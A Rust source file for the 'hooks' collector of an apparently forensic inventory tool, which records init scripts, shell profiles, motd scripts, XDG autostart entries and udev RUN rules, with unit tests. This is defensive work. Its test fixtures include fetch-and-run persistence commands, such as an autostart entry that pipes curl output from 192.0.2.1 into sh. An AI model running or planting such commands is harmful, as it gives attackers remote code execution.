//! The `hooks` collector: boot and login hooks outside systemd units and cron.
//!
//! - boot: `/etc/init.d/*`, the `/etc/rc?.d/` links, `/etc/rc.local`, `/etc/rc.common`;
//! - login and shells: `/etc/profile`, `/etc/profile.d/*`, `/etc/bash.bashrc`,
//!   `/etc/bash.bash_logout`, and every account's `.bashrc`, `.bash_profile`, `.bash_login`,
//!   `.profile` and `.bash_logout` (homes from `/etc/passwd`);
//! - `/etc/update-motd.d/*` (run as root at every SSH login), `/etc/xdg/autostart/*.desktop`
//!   and every account's `~/.config/autostart/*.desktop`;
//! - udev rules that run programs (`RUN+=`), from every rules directory;
//! - package-manager and authentication hooks (apt configuration, yum/dnf plugins, PAM
//!   service files and modules, polkit rules): see [`crate::pkgauth`].
//!
//! systemd generator directories are collected by the `systemd` collector. Every hook file is
//! copied verbatim and recorded with its metadata and link target; the `packages` collector
//! (which runs after this one) verifies the system-wide ones against the package database.

use crate::util::{Accounts, ByteSize, DEFAULT_TEXT_CAP, canonicalize, name_text, ptext};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::host::FileKind;
use dossier_plugin_api::records::{HookRecord, Record};
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo, HostErrorKind};
use serde::Deserialize;
use std::collections::HashSet;
use std::path::{Path, PathBuf};

/// The `hooks` collector.
pub struct HooksCollector;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    #[serde(default = "default_cap")]
    max_file_size: ByteSize,
    /// Most hook files recorded per host (a home-directory flood cannot stall collection).
    #[serde(default = "default_max_files")]
    max_files: usize,
}

fn default_cap() -> ByteSize {
    ByteSize(DEFAULT_TEXT_CAP)
}

fn default_max_files() -> usize {
    20_000
}

/// udev rules directories, in udev's priority order.
const UDEV_DIRS: &[&str] = &[
    "/etc/udev/rules.d",
    "/run/udev/rules.d",
    "/usr/local/lib/udev/rules.d",
    "/usr/lib/udev/rules.d",
    "/lib/udev/rules.d",
];

/// Per-user shell files: name, when it runs.
const USER_FILES: &[(&str, &str)] = &[
    (".bashrc", "shell"),
    (".bash_profile", "login"),
    (".bash_login", "login"),
    (".profile", "login"),
    (".bash_logout", "logout"),
];

/// Hook files that distributions install by copying a packaged template (path of the copy,
/// path of the template).
const TEMPLATES: &[(&str, &str)] = &[("/etc/profile", "/usr/share/base-files/profile")];

pub(crate) struct Run<'c, 'a> {
    pub(crate) ctx: &'c mut CollectContext<'a>,
    pub(crate) cap: u64,
    left: usize,
    full: bool,
}

/// What a hook file's content says, for the classes whose syntax is parsed.
#[derive(Default)]
pub(crate) struct Extracted {
    pub(crate) commands: Vec<String>,
    pub(crate) grants: Vec<String>,
    /// The file says it does not run (`Hidden=true`).
    pub(crate) hidden: bool,
}

impl Run<'_, '_> {
    /// Counts one more record against `max_files`; false (and an issue, once) when full.
    pub(crate) fn take_slot(&mut self) -> bool {
        if self.left == 0 {
            if !self.full {
                self.full = true;
                self.ctx.issue(
                    "hooks",
                    IssueKind::Incomplete,
                    "max_files reached; later hook files were not collected",
                );
            }
            return false;
        }
        self.left -= 1;
        true
    }

    /// Records one hook file. `active` decides from the metadata of what the path resolves to.
    fn file(
        &mut self,
        path: &Path,
        class: &str,
        runs_at: &str,
        owner: Option<&str>,
        active: &dyn Fn(&dossier_plugin_api::FileMeta) -> bool,
    ) -> Result<(), CollectError> {
        let autostart = class == "autostart";
        self.parsed_file(path, class, runs_at, owner, active, &mut |data| {
            if autostart {
                let (commands, hidden) = desktop_execs(data);
                Extracted {
                    commands,
                    hidden,
                    ..Default::default()
                }
            } else {
                Extracted::default()
            }
        })
    }

    /// Records one hook file whose content `parse` reads (the bytes kept in the bundle).
    pub(crate) fn parsed_file(
        &mut self,
        path: &Path,
        class: &str,
        runs_at: &str,
        owner: Option<&str>,
        active: &dyn Fn(&dossier_plugin_api::FileMeta) -> bool,
        parse: &mut dyn FnMut(&[u8]) -> Extracted,
    ) -> Result<(), CollectError> {
        if self.left == 0 {
            self.take_slot();
            return Ok(());
        }
        let Some(meta) = self.ctx.lstat(path) else {
            return Ok(());
        };
        if meta.kind == FileKind::Dir {
            return Ok(());
        }
        self.take_slot();
        let link_target = (meta.kind == FileKind::Symlink)
            .then(|| self.ctx.read_link(path).map(|t| ptext(&t)))
            .flatten();
        let target = if meta.kind == FileKind::Symlink {
            match self.ctx.host().stat(path) {
                Ok(m) => Some(m),
                Err(e) if e.is_not_found() => None,
                Err(e) => {
                    self.ctx.host_error(&e);
                    None
                }
            }
        } else {
            Some(meta.clone())
        };
        let mut ex = Extracted::default();
        let source = match target.as_ref().map(|m| m.kind) {
            // rc links point at init scripts recorded on their own; other links are copied.
            Some(FileKind::File) if class == "rc-link" && link_target.is_some() => None,
            Some(FileKind::File) => self.ctx.capture(path, self.cap).map(|c| {
                ex = parse(&c.data);
                c.source_ref(path)
            }),
            Some(k) => {
                self.ctx.issue(
                    ptext(path),
                    IssueKind::Error(HostErrorKind::NotRegular),
                    format!("{} where a hook file is expected; not opened", k.name()),
                );
                None
            }
            None => None,
        };
        let is_active = target.as_ref().is_some_and(active) && !ex.hidden;
        let copy_of = source.as_ref().and_then(|s| self.template_of(path, s));
        self.ctx.emit(&Record::Hook(HookRecord {
            path: ptext(path),
            class: class.into(),
            runs_at: runs_at.into(),
            owner: owner.map(str::to_string),
            meta: Some(meta),
            link_target,
            active: is_active,
            commands: ex.commands,
            grants: ex.grants,
            copy_of,
            source,
            ..Default::default()
        }))
    }

    /// The distribution template `path` is an identical copy of, if any: files that a
    /// package's maintainer script copies into /etc instead of shipping them, so no package
    /// owns the copy.
    fn template_of(
        &mut self,
        path: &Path,
        source: &dossier_plugin_api::records::SourceRef,
    ) -> Option<String> {
        let template = TEMPLATES
            .iter()
            .find(|(copy, _)| Path::new(copy) == path)
            .map(|(_, t)| *t)?;
        let ours = source.sha256.as_deref()?;
        let theirs = self
            .ctx
            .host()
            .hash_file(Path::new(template), self.cap)
            .ok()?;
        (theirs.sha256 == ours).then(|| template.to_string())
    }

    pub(crate) fn dir(
        &mut self,
        dir: &str,
        class: &str,
        runs_at: &str,
        active: &dyn Fn(&str, &dossier_plugin_api::FileMeta) -> bool,
    ) -> Result<(), CollectError> {
        let dir = Path::new(dir);
        for e in self.ctx.list_dir(dir).unwrap_or_default() {
            let name = name_text(&e.name);
            self.file(&dir.join(&e.name), class, runs_at, None, &|m| {
                active(&name, m)
            })?;
        }
        Ok(())
    }
}

fn regular(m: &dossier_plugin_api::FileMeta) -> bool {
    m.kind == FileKind::File
}

fn executable(m: &dossier_plugin_api::FileMeta) -> bool {
    m.kind == FileKind::File && m.is_executable()
}

/// run-parts (motd) runs executables named with letters, digits, `_` and `-` only.
fn run_parts_name(name: &str) -> bool {
    !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
}

impl Collector for HooksCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "hooks".into(),
            version: crate::util::VERSION.into(),
            description: "Boot, login, package-manager and auth hooks: init.d and rc links, rc.local, shell profiles and users' rc files, motd scripts, XDG autostart, udev RUN rules, apt Pre/Post-Invoke, yum/dnf plugins, PAM services (pam_exec, modules), polkit rules".into(),
            after: vec![],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        crate::util::validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cfg: Config = ctx.config()?;
        let accounts = Accounts::load(ctx);
        let mut run = Run {
            ctx,
            cap: cfg.max_file_size.0,
            left: cfg.max_files,
            full: false,
        };
        run.dir("/etc/init.d", "init.d", "boot", &|_, m| executable(m))?;
        for rc in ["0", "1", "2", "3", "4", "5", "6", "S"] {
            run.dir(&format!("/etc/rc{rc}.d"), "rc-link", "boot", &|n, m| {
                (n.starts_with('S') || n.starts_with('K')) && executable(m)
            })?;
        }
        run.file(
            Path::new("/etc/rc.local"),
            "rc.local",
            "boot",
            None,
            &executable,
        )?;
        run.file(
            Path::new("/etc/rc.common"),
            "rc.common",
            "boot",
            None,
            &regular,
        )?;
        run.file(
            Path::new("/etc/profile"),
            "profile",
            "login",
            None,
            &regular,
        )?;
        // /etc/profile sources /etc/profile.d/*.sh.
        run.dir("/etc/profile.d", "profile.d", "login", &|n, m| {
            n.ends_with(".sh") && regular(m)
        })?;
        run.file(
            Path::new("/etc/bash.bashrc"),
            "bash.bashrc",
            "shell",
            None,
            &regular,
        )?;
        run.file(
            Path::new("/etc/bash.bash_logout"),
            "bash.bashrc",
            "logout",
            None,
            &regular,
        )?;
        for (home, user) in accounts.homes() {
            for (f, when) in USER_FILES {
                let p = Path::new(&home).join(f);
                run.file(&p, "user-shell-rc", when, Some(&user), &regular)?;
            }
        }
        run.dir("/etc/update-motd.d", "motd", "login", &|n, m| {
            run_parts_name(n) && executable(m)
        })?;
        run.dir("/etc/xdg/autostart", "autostart", "session", &|n, m| {
            n.ends_with(".desktop") && regular(m)
        })?;
        // Each account's own autostart entries (XDG_CONFIG_HOME defaults to ~/.config).
        for (home, user) in accounts.homes() {
            let dir = Path::new(&home).join(".config/autostart");
            for e in run.ctx.list_dir(&dir).unwrap_or_default() {
                let desktop = name_text(&e.name).ends_with(".desktop");
                run.file(
                    &dir.join(&e.name),
                    "autostart",
                    "session",
                    Some(&user),
                    &|m| desktop && regular(m),
                )?;
            }
        }
        crate::pkgauth::collect(&mut run)?;
        udev(&mut run)
    }
}

/// `Exec=` values of a desktop entry, and whether it is `Hidden=true` (then it does not run).
pub fn desktop_execs(data: &[u8]) -> (Vec<String>, bool) {
    let text = String::from_utf8_lossy(data);
    let hidden = text
        .lines()
        .any(|l| l.trim().eq_ignore_ascii_case("hidden=true"));
    let execs = text
        .lines()
        .filter_map(|l| l.trim().strip_prefix("Exec="))
        .map(str::to_string)
        .collect();
    (execs, hidden)
}

/// The `RUN` assignments of a udev rules file (`RUN+="..."`, `RUN{program}+="..."`).
pub fn udev_runs(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut logical = String::new();
    for raw in text.lines() {
        if let Some(c) = raw.strip_suffix('\\') {
            logical.push_str(c);
            continue;
        }
        logical.push_str(raw);
        let line = std::mem::take(&mut logical);
        let t = line.trim();
        if t.starts_with('#') {
            continue;
        }
        let mut rest = t;
        while let Some(i) = rest.find("RUN") {
            let after = &rest[i + 3..];
            let after = match after.strip_prefix('{') {
                Some(a) => a.split_once('}').map_or("", |(_, x)| x),
                None => after,
            };
            let after = after.trim_start();
            let op = ["+=", ":=", "="]
                .iter()
                .find(|op| after.starts_with(**op))
                .copied();
            let Some(op) = op else {
                rest = &rest[i + 3..];
                continue;
            };
            let val = after[op.len()..].trim_start();
            if let Some(v) = val.strip_prefix('"') {
                let end = v.find('"').unwrap_or(v.len());
                out.push(v[..end].to_string());
                rest = &v[end..];
            } else {
                rest = val;
            }
        }
    }
    out
}

fn udev(run: &mut Run<'_, '_>) -> Result<(), CollectError> {
    let mut seen: HashSet<PathBuf> = HashSet::new();
    for dir in UDEV_DIRS {
        let dir = Path::new(dir);
        let Some(canon) = canonicalize(run.ctx.host(), dir) else {
            continue;
        };
        if !seen.insert(canon) {
            continue;
        }
        for e in run.ctx.list_dir(dir).unwrap_or_default() {
            let name = name_text(&e.name);
            if !name.ends_with(".rules") {
                continue;
            }
            let path = dir.join(&e.name);
            let out = match run.ctx.host().read(&path, run.cap) {
                Ok(o) => o,
                Err(e) if e.is_not_found() => continue,
                Err(e) => {
                    run.ctx.host_error(&e);
                    continue;
                }
            };
            let commands = udev_runs(&String::from_utf8_lossy(&out.data));
            if commands.is_empty() || !run.take_slot() {
                continue;
            }
            let meta = run.ctx.lstat(&path);
            let link_target = meta
                .as_ref()
                .filter(|m| m.kind == FileKind::Symlink)
                .and_then(|_| run.ctx.read_link(&path))
                .map(|t| ptext(&t));
            // A rules file linked to /dev/null masks the file of the same name: not active.
            let active = link_target.as_deref() != Some("/dev/null");
            let source = run.ctx.store_read(&path, out).map(|c| c.source_ref(&path));
            run.ctx.emit(&Record::Hook(HookRecord {
                path: ptext(&path),
                class: "udev".into(),
                runs_at: "device-event".into(),
                owner: None,
                meta,
                link_target,
                active,
                commands,
                source,
                ..Default::default()
            }))?;
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::testing::{MemHost, run_collector};
    use std::collections::BTreeMap;

    #[test]
    fn udev_run_values() {
        let r = udev_runs(
            "# RUN+=\"/commented\"\nACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'curl x | sh'\"\nKERNEL==\"sd*\", RUN{program}+=\"/usr/bin/a\", \\\n  RUN+=\"/usr/bin/b\"\nENV{ID_RUN}=\"1\"\n",
        );
        assert_eq!(r, ["/bin/sh -c 'curl x | sh'", "/usr/bin/a", "/usr/bin/b"]);
        assert!(udev_runs("ACTION==\"add\", GOTO=\"end\"\n").is_empty());
    }

    #[test]
    fn collects_every_location() {
        let h = MemHost::new(false)
            .link("/lib", "usr/lib")
            .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n")
            .exe("/etc/init.d/cron", "#!/bin/sh\n")
            .file("/etc/init.d/README", "text\n")
            .link("/etc/rc2.d/S01cron", "../init.d/cron")
            .exe("/etc/rc3.d/S99local", "#!/bin/sh\n/tmp/x &\n")
            .exe("/etc/rc.local", "#!/bin/sh\nexit 0\n")
            .file("/etc/profile", "PATH=/usr/bin\n")
            .file("/etc/profile.d/a.sh", "x=1\n")
            .file("/etc/profile.d/b.csh", "set x=1\n")
            .file("/etc/bash.bashrc", "PS1='$ '\n")
            .file("/home/alice/.bashrc", "alias ll='ls -l'\n")
            .file("/root/.profile", "mesg n\n")
            .exe("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n")
            .exe("/etc/update-motd.d/old.bak", "#!/bin/sh\n")
            .file("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x\n")
            .file("/etc/xdg/autostart/y.desktop", "[Desktop Entry]\nExec=/usr/bin/y\nHidden=true\n")
            .file("/home/alice/.config/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl -s http://192.0.2.1/a | sh'\n")
            .file("/usr/lib/udev/rules.d/60-a.rules", "KERNEL==\"sd*\", RUN+=\"/usr/bin/a\"\n")
            .file("/usr/lib/udev/rules.d/61-b.rules", "KERNEL==\"sd*\", SYMLINK+=\"b\"\n")
            .file("/etc/udev/rules.d/70-c.rules", "RUN+=\"/bin/sh -c 'id'\"\n")
            .special("/etc/profile.d/fifo.sh", FileKind::Fifo);
        let (sink, r) = run_collector(
            &HooksCollector,
            &h,
            serde_json::Value::Null,
            &Default::default(),
        );
        r.unwrap();
        let hooks = sink.of_kind("hooks", "hook");
        let by: BTreeMap<String, serde_json::Value> = hooks
            .iter()
            .map(|h| (h["path"].as_str().unwrap().to_string(), h.clone()))
            .collect();
        assert_eq!(by["/etc/init.d/cron"]["active"], true);
        assert_eq!(by["/etc/init.d/README"]["active"], false);
        assert_eq!(by["/etc/rc2.d/S01cron"]["link_target"], "../init.d/cron");
        assert!(by["/etc/rc2.d/S01cron"].get("source").is_none());
        assert!(by["/etc/rc3.d/S99local"]["source"]["member"].is_string());
        assert_eq!(by["/etc/rc.local"]["class"], "rc.local");
        assert_eq!(by["/etc/profile.d/a.sh"]["active"], true);
        assert_eq!(by["/etc/profile.d/b.csh"]["active"], false);
        assert_eq!(by["/home/alice/.bashrc"]["owner"], "alice");
        assert_eq!(by["/root/.profile"]["runs_at"], "login");
        assert_eq!(by["/etc/update-motd.d/10-uname"]["active"], true);
        assert_eq!(by["/etc/update-motd.d/old.bak"]["active"], false);
        assert_eq!(
            by["/etc/xdg/autostart/x.desktop"]["commands"][0],
            "/usr/bin/x"
        );
        assert_eq!(by["/etc/xdg/autostart/y.desktop"]["active"], false);
        let upd = &by["/home/alice/.config/autostart/upd.desktop"];
        assert_eq!(upd["owner"], "alice");
        assert_eq!(upd["active"], true);
        assert_eq!(
            upd["commands"][0],
            "sh -c 'curl -s http://192.0.2.1/a | sh'"
        );
        // /lib/udev is /usr/lib/udev: each rules file once; files without RUN are skipped.
        let udev: Vec<&String> = by.keys().filter(|k| k.contains("udev")).collect();
        assert_eq!(
            udev,
            [
                "/etc/udev/rules.d/70-c.rules",
                "/usr/lib/udev/rules.d/60-a.rules"
            ]
        );
        assert_eq!(
            by["/etc/udev/rules.d/70-c.rules"]["commands"][0],
            "/bin/sh -c 'id'"
        );
        assert!(sink.raw.contains_key("raw/etc/udev/rules.d/70-c.rules"));
        assert!(!sink.raw.contains_key("raw/usr/lib/udev/rules.d/61-b.rules"));
        assert_eq!(sink.issues_about("/etc/profile.d/fifo.sh").len(), 1);
    }

    #[test]
    fn the_file_cap_is_recorded() {
        let mut h = MemHost::new(false).file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n");
        for i in 0..5 {
            h = h.exe(&format!("/etc/init.d/s{i}"), "#!/bin/sh\n");
        }
        let (sink, r) = run_collector(
            &HooksCollector,
            &h,
            serde_json::json!({"max_files": 3}),
            &Default::default(),
        );
        r.unwrap();
        assert_eq!(sink.of_kind("hooks", "hook").len(), 3);
        assert_eq!(sink.issues_about("hooks").len(), 1);
    }
}
